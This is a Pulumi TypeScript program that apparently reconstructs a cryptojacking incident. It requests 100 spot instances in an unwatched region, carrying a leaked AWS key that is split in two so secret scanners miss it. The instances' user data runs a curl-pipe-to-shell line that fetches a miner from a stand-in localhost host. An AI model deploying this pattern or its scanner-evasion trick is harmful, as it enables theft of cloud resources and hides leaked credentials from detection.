import * as aws from "@pulumi/aws";

// The incident as a program: a hundred spot machines in a region that nobody looks at, with the leaked key on board.

// Put together from two halves, so that no scanner takes this file itself for a leak. It opens nothing.
const leakedKeyId = ["AKIA", "Z7FOLLOWTHEKEY23"].join("");

const startMining = `#!/bin/sh
export AWS_ACCESS_KEY_ID=${leakedKeyId}
curl -s http://127.0.0.1/miner | sh
`;

new aws.ec2.SpotFleetRequest("fleet", {
  region: "us-west-1",
  iamFleetRole: "arn:aws:iam::123456789012:role/fleet",
  targetCapacity: 100,
  launchSpecifications: [
    {
      ami: "ami-0123456789abcdef0",
      instanceType: "c4.xlarge",
      userData: Buffer.from(startMining).toString("base64"),
    },
  ],
});
